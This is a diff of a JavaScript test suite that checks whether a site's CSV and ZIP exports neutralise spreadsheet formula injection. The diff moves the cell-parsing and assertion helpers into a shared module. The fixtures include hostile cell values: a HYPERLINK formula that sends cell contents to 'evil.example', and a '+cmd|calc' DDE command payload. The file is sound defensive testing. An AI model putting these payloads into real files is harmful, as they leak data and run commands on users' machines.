@@ -9,12 +9,11 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { downloadOf, site, useSite } from './support.mjs';
+import { assertSpreadsheetSafe, DECIMAL_NUMBER } from '../csv-cells.mjs';
 
 const shoal = useSite();
 const examples = path.join(site, 'examples');
 
-const FORMULA_START = /^[=+\-@\t\r]/;
-const DECIMAL_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
 const MODELS = [['toy-a-base', '=HYPERLINK("https://evil.example/?"&A1,"click")'], ['toy-a-chat', '+cmd|calc'], ['toy-b-base', '@SUM(1+1)'], ['toy-b-chat', '-2+3']];
 const WORDS = [['ocean', '=1+1'], ['fire', '-fire'], ['lemon', '+lemon'], ['snow', '@snow']];
 
@@ -35,20 +34,6 @@ function hostileFiles() {
   return files;
 }
 
-// RFC 4180 cells of a CSV text.
-function cells(text) {
-  const out = [];
-  let cell = '', quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',' || ch === '\n') { out.push(cell); cell = ''; } else cell += ch;
-  }
-  return out;
-}
-
 // The files of a stored (uncompressed or deflated) ZIP archive.
 function unzip(bytes) {
   const files = {};
@@ -62,12 +47,6 @@ function unzip(bytes) {
     at += 30 + nameLength + extra + size;
   }
   return files;
-}
-
-function assertNeutralised(where, text) {
-  const all = cells(text);
-  for (const c of all) assert.ok(!FORMULA_START.test(c) || DECIMAL_NUMBER.test(c), `${where}: the cell ${JSON.stringify(c)} would run as a formula`);
-  return all;
 }
 
 test('every CSV the page writes starts a formula-like cell with an apostrophe; numbers stay numbers', async () => {
@@ -97,7 +76,7 @@ test('every CSV the page writes starts a formula-like cell with an apostrophe; n
   assert.ok(zipped.length >= 5, zipped.join(', '));
   for (const name of zipped) texts[`figures.zip ${name}`] = zip[name];
 
-  const everyCell = Object.entries(texts).flatMap(([where, text]) => assertNeutralised(where, text));
+  const everyCell = Object.entries(texts).flatMap(([where, text]) => assertSpreadsheetSafe(where, text));
   // The hostile names are there, as text.
   for (const [, name] of MODELS) assert.ok(everyCell.includes(`'${name}`), `${name} is in no CSV as text`);
   for (const [, word] of WORDS) assert.ok(everyCell.includes(`'${word}`), `${word} is in no CSV as text`);
